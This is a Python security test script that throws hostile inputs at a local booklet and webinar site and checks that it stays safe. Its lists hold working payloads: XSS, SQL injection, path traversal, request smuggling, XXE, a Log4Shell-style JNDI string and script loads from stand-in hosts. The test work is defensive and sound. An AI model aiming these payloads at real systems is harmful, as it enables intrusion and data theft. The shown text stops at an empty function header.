#!/usr/bin/env python3
"""Does the site hold against what nobody means well with?

Sends some six hundred inputs to a running site, as bytes on a socket, so that no library tidies them up first: names, mail addresses,
whole forms, keys, searches, paths, methods, headers, and requests that are none. Given the folder of the content (a copy!) it also puts
some hundred and fifty files there: Markdown, front matter, and files that are none; they are then asked for as pages, in the feed, in
the search, for printing, as EPUB and as Word. Given the folder of the mails it presses their links as scanners and impatient people do.
For each it is known what may come of it. For all:

  * an answer within two seconds (--seconds), and below 500;
  * nothing in it that runs (parsed, not searched for), no word of our own insides, no other site to be led to;
  * the headers that guard a browser, unless the server refused the request before the site saw it;
  * a row for each sign-up that was acknowledged, and for none that was not.

And in the end the site answers as before, its log is one JSON object per line, and no name, address or key of ours is in it.

  python3 tests/scripts/hostile_inputs.py http://127.0.0.1:5000 lancering-strategiske-partnerskaber --database <almenhaefte.db> --log <file> --content <copy of content> --mail <Data:Root>/mail

The site must be one made for this: in Production, its webinar open (Site__Clock), SignUp__LeastSeconds=0, SignUp__PerClient and
SignUp__PerOffice at 100000. Standard library only. Exit 0 when everything held; else 1, with a line for each input that did not.
"""
import argparse
import email
import email.policy
import html
import html.parser
import io
import json
import os
import pathlib
import re
import socket
import sqlite3
import sys
import time
import urllib.parse
import xml.etree.ElementTree
import zipfile

TAKEN, REFUSED, EITHER = (303,), (400, 413, 415, 422), (303, 400, 413, 415, 422)
SHOWN, GONE = (200,), (301, 302, 400, 404)
UNKNOWN = (501, 505)  # A method or a version that the server does not know.
GUARDS = ("content-security-policy", "x-content-type-options", "referrer-policy", "cross-origin-opener-policy",
          "cross-origin-resource-policy", "cross-origin-embedder-policy", "permissions-policy")
INSIDES = re.compile(r"(?m)^   at |SQLite Error|fts5|Exception\b|Microsoft\.|root:x:0|SQLite format 3|ref: refs/|MaxRequestBodySize|@model")
ELSEWHERE = "fremmed.example"
# The same for texts, whose faults the log tells of.
ELSEWHERE_IN_TEXTS = "andetsteds.example"

NAMES = [
    *[(name, TAKEN) for name in (
        "Søren Ærø-Ångström", "O’Brien", "D'Angelo", "Jo", "Ng", "null", "NaN", "0", "True", "раураl", "김민준", "Jose\u0301", "Åse Ærø 2.",
        "A" * 80, "  Bo   Ågård ")],
    *[(name, REFUSED) for name in (
        "", " ", "\u00a0\u200b\u200b\ufeff", "A" * 81, "😀" * 60, "Maja 🧑\u200d🚀", "-.'", "<script>alert(1)</script>", "' autofocus onfocus=alert(1) x='",
        "<!--", "--><svg onload=alert(1)>", "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>", "@(1+1)", "' OR '1'='1", "'; DROP TABLE SignUps;--", "%' ESCAPE '", "=1+1", "+1+1",
        "@SUM(1+1)", "＝1+1", ";=1+1", "%0d%0aSet-Cookie:%20x=1", "../../../../etc/passwd", "&lt;b&gt;", "[object Object]", "https://fremmed.example", "www.fremmed.example",
        "se@fremmed.example", "$(id)", "`id`", "|id", "A" * 40_000)],
    *[(name, EITHER) for name in (
        "\u2066Admin\u2069 \u200f", "\u202egnp.exe", "a\0b", "Bob\r\nBcc: offer@fremmed.example", "x\n2026-01-01 [INF] Admin signed in", "Bob\r\nATTENDEE:mailto:ond@fremmed.example", "-1", "a\u2028b")],
]

MAILS = [
    *[(mail, TAKEN) for mail in (
        "a+maerke@{n}.example", "a_b-c.d@under.{n}.example", "x@{n}.museum", "  luft@{n}.example ", "mailto:paa@{n}.example", "Bo Ågård <bo@{n}.example>", "o'neil@{n}.example")],
    *[(mail, REFUSED) for mail in (
        "", "ingen", "@{n}.example", "a@", "a b@{n}.example", "a@b@{n}.example", "a@{n}.example;b@{n}.example", "a@{n}.example,b@{n}.example", "a@{n}.example b@{n}.example",
        "a@{n}.example\nTo: v@{n}.example", "a\r\n@{n}.example", '"a\\\r\nDATA"@{n}.example', '"a b"@{n}.example', "a..b@{n}.example", ".a@{n}.example", "a@localhost", "a@[127.0.0.1]", "a@127.0.0.1",
        "a@-{n}.example", "<script>alert(1)</script>@{n}.example", "l" * 65 + "@{n}.example", "a." * 20_000 + "@", "a@" + "b." * 200 + "dk", "ﬁ@{n}.example", "ａ@{n}.example")],
    *[(mail, EITHER) for mail in ("a@bücher{n}.example", "a\u200b@{n}.example", "-oQ/var/x@{n}.example", "a@{n}.example.", "ADMIN@{n}.EXAMPLE")],
]

FORM, JSON_TYPE = "application/x-www-form-urlencoded", "application/json"
# (type, body, what may come of it); {form} is a whole and right form.
BODIES = [
    (FORM, "", REFUSED), (FORM, "Name=%ED%A0%80&{form}", EITHER), (FORM, "Name=%C0%AF%C0%AE&Email=a%40b.example", REFUSED), (FORM, "Name[]=a&Name[0].X=b&Email[$ne]=x", REFUSED),
    (FORM, "f=1&" * 2000, REFUSED), (FORM, "Name" + "[a]" * 500 + "=1", REFUSED), (FORM, "&&&==&=&%&%zz=%", REFUSED), (FORM, "Name=a&Email=uden%40noegle.example", (400,)), (FORM, "x=" + "A" * 1_000_000, (413,)),
    (FORM + "; charset=utf-7", "{form}", (415,)), (FORM + "; charset=utf-16", "{form}", (415,)), (FORM + "; charset=findes-ikke", "{form}", (415,)), (FORM + "; charset=\"utf-8\"", "{form}", TAKEN),
    (JSON_TYPE, '{"Name":"a","Email":"json@b.example"}', (415,)), (JSON_TYPE, '{"$type":"System.IO.FileInfo","fileName":"x"}', (415,)), ("text/plain", "{form}", (415,)), ("text/html", "{form}", (415,)), ("", "{form}", (400, 415)),
    ("application/xml", '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>', (415,)),
    ("multipart/form-data", "{form}", (400, 415)), ("multipart/form-data; boundary=" + "x" * 300, "{form}", (400, 415)), ("multipart/form-data; boundary=X", "--X\r\nContent-Disposition: form-data", (400,)),
    ("multipart/form-data; boundary=X", '--X\r\nContent-Disposition: form-data; name="Name"; filename="a.txt"\r\n\r\nhej\r\n--X--\r\n', REFUSED),
    (FORM, "{form}&Name=b&Name=c", EITHER), (FORM, "{form}&State=Confirmed&Id=1&IsAdmin=true&PublicId=0", TAKEN), (FORM, "{form}&__RequestVerificationToken=x", EITHER), (FORM, "{form}&Hjemmeside=http://x", EITHER),
]

WEBINARS = ["findes-ikke", "0", "-1", "99999999999999999999", "../webinars/demo", "demo\0", "DEMO ", "%", "a" * 500, "<script>", "'"]
KEYS = ["0", "*", "%00", "a" * 4000, "..%2f..", "AAAAAAAAAAAAAAAAAAAAAA", "CfDJ8", "<script>alert(1)</script>", "x.", "æ", "null"]
SEARCHES = ["%", '"', "NEAR(", "NOT", "-", "'", "col:x", "*", "a*b", "(((", "\\", "<script>alert(1)</script>", "\"onmouseover=alert(1) x=\"", "😀", "\0", "a " * 900, "æ" * 600, "(a+)+$", "' UNION SELECT 1--", "\u202e", "{{7*7}}"]
RETURNS = ["https://fremmed.example", "//fremmed.example", "///fremmed.example", "\\\\fremmed.example", "/\\fremmed.example", "https:fremmed.example", "https://127.0.0.1@fremmed.example", "javascript:alert(1)", "data:text/html,x",
           "/%09/fremmed.example", "%2f%2ffremmed.example", "⁄/fremmed.example", "/redaktion/../\\fremmed.example", "/redaktion//fremmed.example", " //fremmed.example", "/" + "a" * 4000, "\r\nLocation: https://fremmed.example"]
QUERIES = ["/haefter/./.", "/nyheder?side=0", "/nyheder?side=-1", "/nyheder?side=2147483648", "/nyheder?side=abc", "/?culture=xx-XX", "/?culture=%00", "/?__proto__=x", "/?" + "a=1&" * 1500, "/om?%", "/om?=&&=", "/webinarer?fra=9999-99-99",
           "/haefter/strategiske-partnerskaber/print?kapitler=" + "a," * 800, "/haefter/strategiske-partnerskaber/print?kapitler=../site", "/haefter/strategiske-partnerskaber.docx?kapitler=%00"]
PATHS = ["/haefter/../../appsettings.json", "/haefter/..%2f..%2fappsettings.json", "/haefter/%252e%252e%252fappsettings.json", "/haefter/..%c0%af..%c0%afappsettings.json", "/haefter/%2fetc%2fpasswd", "/haefter/..\\..\\appsettings.json",
         "/css/..%2f..%2fappsettings.json", "/.git/HEAD", "/.env", "/appsettings.json", "/appsettings.Production.json", "/web.config", "/almenhaefte.db", "/App_Data/almenhaefte.db-wal", "/keys/links.key", "/backups/", "/backup.zip", "/mail/",
         "/.well-known/../appsettings.json", "/Home/Index.cshtml", "/swagger", "/swagger/v1/swagger.json", "/metrics", "/.DS_Store", "/AlmenHaefte.Web.pdb", "/content/site.yml", "/haefter/strategiske-partnerskaber/indhold.md", "/haefter/a%00.html",
         "/haefter/%E0%A4%A", "/haefter/%ZZ", "/haefter/-", "/haefter/a:b", "/haefter/a;b", "/haefter/ø", "/haefter/%F0%9F%98%80", "//haefter", "//fremmed.example/%2e%2e", "/haefter/%20", "/" + "a" * 300, "/a" * 2000,
         "/redaktion/tilmeldinger", "/redaktion/indhold/visning?fil=sider/om.md", "/Redaktion/", "/redaktion/.", "//redaktion", "/redaktion%2f", "/./redaktion", "/redaktion;x", "/haefter/strategiske-partnerskaber/punkt/0",
         "/haefter/strategiske-partnerskaber/punkt/-1", "/haefter/strategiske-partnerskaber/punkt/99999999999999", "/haefter/strategiske-partnerskaber/udgaver/0", "/haefter/strategiske-partnerskaber/billeder/..%2f..%2fsite.yml"]
METHODS = ["PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "PROPFIND", "FOO"]
# (header, value, what may come of it on the front page)
HEADERS = [
    *[("Host", host, (400,)) for host in ("fremmed.example", "127.0.0.1:1@fremmed.example", "localhost\0", "localhost, fremmed.example", "fremmed.example:99999", "[::1")],
    *[(name, "fremmed.example", SHOWN) for name in ("X-Host", "X-Original-Host", "X-Forwarded-Host", "X-Forwarded-Server", "Forwarded", "X-Forwarded-Prefix", "Referer", "Origin")],
    *[("X-Forwarded-For", value, (200, 400, 431)) for value in ("127.0.0.1", "::1", "<script>", "1.2.3.4, " * 500, "999.999.999.999", "")],
    ("X-Forwarded-Proto", "javascript", SHOWN), ("X-Original-URL", "/redaktion", SHOWN), ("X-Rewrite-URL", "/redaktion", SHOWN), ("X-HTTP-Method-Override", "DELETE", SHOWN), ("X-Forwarded-User", "admin", SHOWN),
    *[("Cookie", value, (200, 400)) for value in ('a;=;;"', "formular=CfDJ8vrøvl", "__Secure-redaktion=CfDJ8", "a=" + "b" * 7000, "lang=../../x", "ÿþ")],
    ("X-Long", "A" * 40_000, (431,)), *[("Accept-Language", value, (200, 400, 431)) for value in ("da;q=9", "*", "da," * 2000, "<script>")], *[("Accept", value, (200, 406)) for value in (JSON_TYPE, "", "*/*;q=x")],
    *[("If-None-Match", value, (200, 304)) for value in ('"x"', "vrøvl", "*", '"' + "x" * 5000)], ("If-Modified-Since", "vrøvl", SHOWN),
    *[("Range", value, (200, 206, 416)) for value in ("bytes=0-0", "bytes=9-1", "bytes=-1", "bytes=" + ",".join(f"0-{n}" for n in range(200)))],
    ("User-Agent", "<script>alert(1)</script>", SHOWN), ("User-Agent", "() { :;}; echo x", SHOWN), ("User-Agent", "${jndi:ldap://fremmed.example}", SHOWN), ("Referer", "javascript:alert(1)", SHOWN), ("Origin", "null", SHOWN),
    *[("Accept-Encoding", value, (200, 406)) for value in ("gzip;q=x", "identity;q=0", "*;q=0", "br, gzip, vrøvl")], ("Expect", "200-ok", (200, 400, 417)), ("Upgrade", "websocket", SHOWN), ("Content-Length", "0", SHOWN),
]
# {host} and {form} are put in. The server may also just hang up.
RAW = [
    "POST {form} HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n", "POST {form} HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n",
    "POST {form} HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n", "POST {form} HTTP/1.1\r\nHost: {host}\r\nContent-Length: -1\r\n\r\n", "POST {form} HTTP/1.1\r\nHost: {host}\r\nContent-Length: +5\r\n\r\nhello",
    "POST {form} HTTP/1.1\r\nHost: {host}\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\nhello", "POST {form} HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: chunked\r\n\r\nFFFFFFFFFFFFFFFFF\r\n", "POST {form} HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: chunked\r\n\r\n5;x=\"\r\nhello\r\n0\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: {host}\r\n folded: x\r\n\r\n", "GET / HTTP/1.1\r\nHost: {host}\r\nHost: fremmed.example\r\n\r\n", "GET / HTTP/1.1\r\n\r\n", "GET http://fremmed.example/ HTTP/1.1\r\nHost: {host}\r\n\r\n", "GET / HTTP/9.9\r\nHost: {host}\r\n\r\n", "GET /\r\n\r\n",
    "GET / HTTP/1.1\nHost: {host}\n\n", "GET / HTTP/1.1\r\nHost : {host}\r\n\r\n", "GET / HTTP/1.1\r\nHost: {host}\r\nX\0Y: 1\r\n\r\n", "GET / HTTP/1.1\r\nHost: {host}\r\nX: a\rb\r\n\r\n", "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "\r\n\r\n\r\nGET / HTTP/1.1\r\nHost: {host}\r\n\r\n", "GET * HTTP/1.1\r\nHost: {host}\r\n\r\n", "CONNECT fremmed.example:443 HTTP/1.1\r\nHost: {host}\r\n\r\n", "\0" * 400,
    "GET / HTTP/1.1\r\nHost: {host}\r\nContent-Length: 30\r\n\r\nGET /redaktion HTTP/1.1\r\n\r\n   ",
]

BOOKLET = "strategiske-partnerskaber"
# Texts of a page. Most are refused when the content is read, and then the page is not there; whatever is there must be inert.
MARKDOWN = [
    "<script>alert(1)</script>", "<ScRiPt src=//andetsteds.example/x.js></ScRiPt>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<iframe src=//andetsteds.example></iframe>", "<form action=//andetsteds.example><input name=p></form>",
    "<base href=//andetsteds.example>", "<meta http-equiv=refresh content=\"0;url=//andetsteds.example\">", "<object data=//andetsteds.example></object>", "<a href=javascript:alert(1)>x</a>", "<details open ontoggle=alert(1)>x</details>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<!--><script>alert(1)</script>-->", "<![CDATA[<script>alert(1)</script>]]>", "<?xml version=\"1.0\"?><script>alert(1)</script>", "<style>@import '//andetsteds.example'</style>",
    "[x](javascript:alert(1))", "[x](JAVASCRIPT:alert(1))", "[x](&#x6A;avascript:alert(1))", "[x](java&Tab;script:alert(1))", "[x](java\tscript:alert(1))", "[x](\x01javascript:alert(1))", "[x](vbscript:msgbox(1))", "[x](data:text/html,<script>alert(1)</script>)",
    "[x](file:///etc/passwd)", "[x](//andetsteds.example)", "[x](/\\andetsteds.example)", "[x](https:andetsteds.example)", "<javascript:alert(1)>", "![x](javascript:alert(1))", "![x](data:image/svg+xml,<svg onload=alert(1)>)", "![x](https://andetsteds.example/a.png)",
    "![a](b\"onerror=\"alert(1))", "[x]: javascript:alert(1)\n\n[x]", "[a](b){onmouseover=alert(1)}", "## A {onclick=alert(1)}", "## A {#a\" onclick=\"alert(1)}", "```\"><script>alert(1)</script>\nx\n```", "`<script>alert(1)</script>`", "    <script>alert(1)</script>",
    "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |", "x[^a]\n\n[^a]: <img src=x onerror=alert(1)> [y](javascript:alert(1))", "> [!\"><script>alert(1)</script>]\n> x", "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;", "Ord\n:   <script>alert(1)</script>",
    # Edges.
    "", "\ufeffTekst.", "---\n---\n", "\u2028\u2029\u202eabc", "[x](a b c)", "![uden tekst](a.png)", "[x](../../appsettings.json) ![y](../../../etc/passwd)", "[x](https://udenfor.example) og mere", "a\r\nb\rc\n", "{{7*7}} ${7*7} @(7*7) <%= 7*7 %>", "Tekst\0", "x" * 70_000,
    # What takes a reader of Markdown long.
    "> " * 5000 + "x", "- " * 3000 + "x", "[a](b" * 20_000, "![](" * 20_000, "# same\n" * 20_000, "## ens\n\n" * 4000, "<!--" * 30_000, "|" * 20_000, "|a" * 2000 + "|\n" + "|-" * 2000 + "|\n", "&#x6A;" * 40_000, "*a_ " * 20_000, "`" * 4999 + "a", "~" * 50_000, "{#" * 40_000,
    "[" * 50_000, "[^a]" * 20_000, "\\" * 50_000, "[a]: b\n" * 20_000, "a\n" * 4999,
]

FRONT = "titel: {titel}\nresume: En prøve.\ndato: 2022-03\nopdateret: 2022-03-28"
# Front matter of a news item; {titel} and the rest are as in FRONT.
FRONTS = [
    "", "bare tekst", "[1, 2]", "titel:\tx\n\tb: y", "titel: [a", "titel: 'a", "titel: \"a", ": :", "? x", "- titel: x", "%YAML 9.9\n---\ntitel: x", "titel: x\n...\nmere", "titel: !!python/object/apply:os.system [\"id\"]", "titel: !!js/function 'alert(1)'", "titel: !<tag:x> y",
    "titel: &a [*a]", "titel: *ukendt", "a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\nf: [*e,*e,*e,*e,*e,*e,*e,*e,*e]", "<<: *x\ntitel: x",
    FRONT + "\ntitel: igen", FRONT + "\nukendt: x", FRONT + "\nTitel: x", FRONT + "\nlayout: ../../Views/Staff/Index", FRONT + "\nstatus: <script>alert(1)</script>", FRONT + "\nstatus: ja", FRONT + "\nhaefte: ../../site", FRONT + "\nforfatter: {a: b}",
    FRONT + "\ntidligere-adresser: [/redaktion]", FRONT + "\ntidligere-adresser: [//andetsteds.example]", FRONT + "\ntidligere-adresser: [/nyheder/vidensopsamling-lanceres-til-april]", FRONT + "\ntidligere-adresser: /x",
    FRONT.replace("2022-03-28", "2026-02-30"), FRONT.replace("2022-03-28", "0001-01-01"), FRONT.replace("2022-03-28", "9999-12-31"), FRONT.replace("2022-03-28", "31/12/2026"), FRONT.replace("2022-03-28", "0x7E6"), FRONT.replace("2022-03\n", "2022-13\n"),
    *[FRONT.replace("{titel}", titel) for titel in ("no", "99999999999999999999999", "\"a\\0b\"", "\"\u202eabc\"", "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "|\n  flere\n  linjer", "{{7*7}}", "x" * 100_000, "~", "''")],
    "titel: x\r\nresume: y\r\ndato: 2022-03\r\nopdateret: 2022-03-28", "titel: " + "[" * 5000, "a: " * 3000, "titel: x\n" * 5000, "x" * 200_000,
]


class Active(html.parser.HTMLParser):
    """Collects what a browser would run, or be led away by."""

    def __init__(self):
        super().__init__()
        self.found = []

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            if name.startswith("on") or (name in ("href", "src", "action", "formaction", "srcdoc") and re.match(r"\s*(javascript|vbscript|file|data:text)", value or "", re.I)) or (name in ("href", "src", "action") and urllib.parse.urlsplit(value or "").netloc in (ELSEWHERE, ELSEWHERE_IN_TEXTS)):
                self.found.append(f"<{tag} {name}={value}>")
        if tag in ("iframe", "object", "embed", "base", "math", "style") or (tag == "meta" and "http-equiv" in dict(attrs)) or (tag == "script" and not any(name in ("src", "type") for name, _ in attrs)):
            self.found.append(f"<{tag}>")


class Answer:
    def __init__(self, data, seconds):
        head, _, self.body = data.partition(b"\r\n\r\n")
        lines = head.decode("latin-1").split("\r\n")
        line = re.match(r"HTTP/1\.[01] (\d{3})", lines[0])
        self.status = int(line[1]) if line else 0
        self.headers = [(name.lower(), value.strip()) for name, _, value in (line.partition(":") for line in lines[1:])]
        self.seconds = seconds

    @property
    def text(self):
        return self.content.decode("utf-8", "replace")

    @property
    def content(self):
        return b"".join(pieces(self.body)) if self.header("transfer-encoding") == "chunked" else self.body

    def header(self, name):
        return next((value for found, value in self.headers if found == name), "")


def pieces(body):
    """The body as it was before it was sent in chunks."""
    while body:
        size, _, rest = body.partition(b"\r\n")
        length = int(size, 16)
        yield rest[:length]
        body = rest[length + 2:] if length else b""


class Site:
    def __init__(self, base, webinar, database):
        self.address = urllib.parse.urlsplit(base)
        self.form_path = f"/webinarer/{webinar}/tilmelding"
        self.database = database
        self.people = 0
        page = self.ask("GET", self.form_path)
        self.cookie = "; ".join(value.split(";")[0] for name, value in page.headers if name == "set-cookie")
        tags = [dict(re.findall(r'([\w-]+)="([^"]*)"', tag)) for tag in re.findall(r"<input\b[^>]*>", page.text)]
        self.fields = {html.unescape(tag["name"]): html.unescape(tag.get("value", "")) for tag in tags if "name" in tag and tag.get("type") != "checkbox"}
        if "__RequestVerificationToken" not in self.fields:
            sys.exit(f"{self.form_path} shows no form (status {page.status}): the webinar must be open")

    def send(self, data, patience=10.0):
        begun, received = time.monotonic(), b""
        with socket.create_connection((self.address.hostname, self.address.port or 80), timeout=patience) as line:
            try:
                line.sendall(data)
            except ConnectionError:
                pass  # It was refused before all of it was sent; what was said of it can still be read.
            try:
                while chunk := line.recv(65536):
                    received += chunk
            except (ConnectionError, TimeoutError):
                pass
        return Answer(received, time.monotonic() - begun)

    def ask(self, method, path, headers=(), body=b""):
        lines = [*headers] if any(name == "Host" for name, _ in headers) else [("Host", self.address.netloc), *headers]
        if body or method == "POST":
            lines.append(("Content-Length", str(len(body))))
        head = f"{method} {path} HTTP/1.1\r\n" + "".join(f"{name}: {value}\r\n" for name, value in lines) + "Connection: close\r\n\r\n"
        return self.send(head.encode() + body)

    def post(self, body, kind=FORM, path=None):
        return self.ask("POST", path or self.form_path, [("Cookie", self.cookie), *([("Content-Type", kind)] if kind else [])], body)

    def filled(self, **typed):
        """A right form for somebody new, but for what is typed."""
        self.people += 1
        return urllib.parse.urlencode({**self.fields, "Name": "Åse Ærø", "Email": f"aase@prove{self.people}.example", "AskedAbout": "", **typed}, errors="surrogatepass").encode()

    def rows(self):
        if not self.database:
            return None
        with sqlite3.connect(f"file:{self.database}?mode=ro", uri=True) as db:
            return db.execute("SELECT COUNT(*) FROM SignUps").fetchone()[0]

    def states(self):
        with sqlite3.connect(f"file:{self.database}?mode=ro", uri=True) as db:
            return db.execute("SELECT Id, State FROM SignUps ORDER BY Id").fetchall()


class Trial:
    """Everything that is tried, and what did not hold."""

    def __init__(self, site, most):
        self.site, self.most, self.count, self.faults, self.slowest = site, most, 0, [], 0.0

    def expect(self, what, statuses, send, may_hang_up=False, is_page=True):
        self.count += 1
        before = self.site.rows()
        answer = send()
        self.slowest = max(self.slowest, answer.seconds)
        faults = [*self.of_status(answer, statuses, may_hang_up), *self.of_page(answer, is_page), *self.of_rows(before, answer)]
        self.faults += [f"{what[:100]!r} ({answer.status}): {fault}" for fault in faults]
        return answer

    def of_status(self, answer, statuses, may_hang_up):
        if answer.status not in statuses and not (may_hang_up and answer.status < 500):
            yield f"one of {statuses} was expected"
        if answer.status >= 500 and answer.status not in UNKNOWN:
            yield "an error of ours"
        if answer.seconds > self.most and not may_hang_up:
            yield f"took {answer.seconds:.1f} s"

    def of_page(self, answer, is_page):
        parser = Active()
        parser.feed(answer.text if is_page else "")
        yield from (f"the page has {found}" for found in parser.found)
        if is_page and (found := INSIDES.search(answer.text)):
            yield f"tells of our insides: {found[0]!r}"
        if ELSEWHERE in urllib.parse.urlsplit(answer.header("location")).netloc or re.match(r"[/\\]{2}", answer.header("location")):
            yield f"leads away to {answer.header('location')}"
        if answer.header("access-control-allow-origin") or answer.header("server") or "x=1" in answer.header("set-cookie"):
            yield "has a header that it must not have"
        missing = [guard for guard in GUARDS if not answer.header(guard)]
        if missing and answer.status not in (0, 408, 414, 431) and not (answer.status in (400, 405, *UNKNOWN) and not answer.body):
            yield f"lacks {', '.join(missing)}"

    def of_rows(self, before, answer):
        after = self.site.rows()
        if before is not None and after - before not in ((0, 1) if answer.status == 303 else (0,)):
            yield f"{after - before} rows were stored"


def quoted(text):
    return urllib.parse.quote(text, safe="", errors="surrogatepass")


def forms(trial, site):
    for name, statuses in NAMES:
        trial.expect(f"name {name}", statuses, lambda: site.post(site.filled(Name=name)))
    for mail, statuses in MAILS:
        trial.expect(f"mail {mail}", statuses, lambda: site.post(site.filled(Email=mail.replace("{n}", f"vaert{site.people}"), AskedAbout=mail)))
    for kind, body, statuses in BODIES:
        trial.expect(f"{kind}: {body}", statuses, lambda: site.post(body.encode().replace(b"{form}", site.filled()), kind))
    for webinar in WEBINARS:
        trial.expect(f"webinar {webinar}", (400, 404, 405), lambda: site.post(site.filled(), path=f"/webinarer/{quoted(webinar)}/tilmelding"))
    trial.expect("a token without its cookie", (400,), lambda: site.ask("POST", site.form_path, [("Content-Type", FORM)], site.filled()))
    trial.expect("a token that is none", (400,), lambda: site.post(site.filled(__RequestVerificationToken="x")))


def addresses(trial, site):
    for key in KEYS:
        for place in ("/tilmelding/00000000000000000000000000000001/", "/deltag/1/", "/samtykke/1/", "/laes/", "/redaktion/link/", f"{site.form_path}/kvittering/"):
            trial.expect(place + key, (400, 404, 410, 429), lambda: site.ask("GET", place + (key if "%" in key else quoted(key))))
    for words in SEARCHES:
        trial.expect(f"search {words}", (200, 400, 414), lambda: site.ask("GET", f"/soeg?q={quoted(words)}"))
    for goal in RETURNS:
        trial.expect(f"back to {goal}", (200, 400, 414), lambda: site.ask("GET", f"/redaktion/log-ind?til={quoted(goal)}"))
    for query in QUERIES:
        trial.expect(query, (200, 301, 302, 400, 404, 414), lambda: site.ask("GET", query))
    for path in PATHS:
        trial.expect(path, (*GONE, 308, 414), lambda: site.ask("GET", path))


def requests(trial, site):
    for method in METHODS:
        trial.expect(f"{method} /om", (400, 404, 405, 501), lambda: site.ask(method, "/om"))
    trial.expect("HEAD /om", SHOWN, lambda: site.ask("HEAD", "/om"))
    for header, value, statuses in HEADERS:
        trial.expect(f"{header}: {value}", statuses, lambda: site.ask("GET", "/", [(header, value)]))
    for raw in RAW:
        data = raw.replace("{host}", site.address.netloc).replace("{form}", site.form_path).encode("latin-1")
        trial.expect(raw, (0, 200, 301, 302, 400, 404, 405, 411, 413, 415, 421, 422, 501, 505), lambda: site.send(data, patience=0.5), may_hang_up=True)


class Folder:
    """Content that is being served, and new files in it."""

    def __init__(self, root, site):
        self.root, self.site = pathlib.Path(root), site

    def write(self, path, text):
        file = self.root / path
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_bytes(text if isinstance(text, bytes) else text.encode("utf-8", "surrogatepass"))

    def read_by(self, path, address, seconds=60):
        """Writes one more page and waits until it is there: by then all that was written before has been read."""
        self.write(path, page_of("Tekst.", path))
        until = time.monotonic() + seconds
        while self.site.ask("GET", address).status != 200:
            if time.monotonic() > until:
                raise TimeoutError(f"{address} never came: the site takes in nothing new")
            time.sleep(0.1)


def page_of(text, path="nyheder/"):
    kind = "dato: 2022-03" if path.startswith("nyheder/") else "status: udgivet"
    return f"---\ntitel: En prøve\nresume: En prøve.\n{kind}\nopdateret: 2022-03-28\n---\n\n{text}\n"


def texts(trial, site, folder):
    for number, text in enumerate(MARKDOWN):
        folder.write(f"nyheder/forsoeg-m{number}.md", page_of(text))
    for number, front in enumerate(FRONTS):
        folder.write(f"nyheder/forsoeg-y{number}.md", f"---\n{front.replace('{titel}', 'x')}\n---\n\nTekst.\n")
    folder.read_by("nyheder/forsoeg-sidst.md", "/nyheder/forsoeg-sidst")
    there = [number for number, text in enumerate(MARKDOWN) if trial.expect(f"Markdown {text}", (200, 404), lambda: site.ask("GET", f"/nyheder/forsoeg-m{number}")).status == 200]
    for number, front in enumerate(FRONTS):
        trial.expect(f"front matter {front}", (200, 404), lambda: site.ask("GET", f"/nyheder/forsoeg-y{number}"))
    if not 10 <= len(there) < len(MARKDOWN):
        trial.faults.append(f"{len(there)} of {len(MARKDOWN)} texts are there: either nothing was read, or nothing was refused")
    trial.expect("the item that was there before", SHOWN, lambda: site.ask("GET", "/nyheder/vidensopsamling-lanceres-til-april"))
    trial.expect("an address that another file claims", SHOWN, lambda: site.ask("GET", "/om"))
    for address in ("/nyheder", "/sitemap.xml", "/soeg?q=pr%C3%B8ve", "/soeg?q=script", "/"):
        trial.expect(address, SHOWN, lambda: site.ask("GET", address))
    trial.faults += [f"the feed: {fault}" for fault in of_feed(trial.expect("the feed", SHOWN, lambda: site.ask("GET", "/nyheder.atom")))]
    chapters(trial, site, folder, there)


def chapters(trial, site, folder, there):
    """What a page may say, a chapter may, too; and chapters become files."""
    root = f"haefter/{BOOKLET}"
    for number in there:
        folder.write(f"{root}/forsoeg/forsoeg-k{number}.md", page_of(MARKDOWN[number], root))
    names = [*(f"forsoeg-k{number}" for number in there), "forsoeg-sidst"]
    contents = (folder.root / root / "indhold.md").read_text("utf-8")
    folder.write(f"{root}/forsoeg/forsoeg-sidst.md", page_of("Tekst.", root))
    folder.write(f"{root}/indhold.md", contents + "\n## Forsøg {#forsoeg}\n\n" + "".join(f"{at}. [En prøve](forsoeg/{name}.md)\n" for at, name in enumerate(names, 1)))
    folder.read_by(f"{root}/forsoeg/forsoeg-sidst.md", f"/haefter/{BOOKLET}/forsoeg-sidst")
    for name in names:
        trial.expect(f"chapter {name}", SHOWN, lambda: site.ask("GET", f"/haefter/{BOOKLET}/{name}"))
    trial.expect("for printing", SHOWN, lambda: site.ask("GET", f"/haefter/{BOOKLET}/print"))
    for kind in ("epub", "docx"):
        file = trial.expect(kind, SHOWN, lambda: site.ask("GET", f"/haefter/{BOOKLET}.{kind}"), is_page=False)
        trial.faults += [f"the {kind}: {fault}" for fault in of_file(file.content, names)]


def of_feed(answer):
    for entry in xml.etree.ElementTree.fromstring(answer.content).iter("{http://www.w3.org/2005/Atom}entry"):
        for element in entry:
            yield from of_markup(element.text or "") if element.get("type") == "html" else []


def of_markup(text):
    parser = Active()
    parser.feed(text)
    return parser.found


def of_file(data, names):
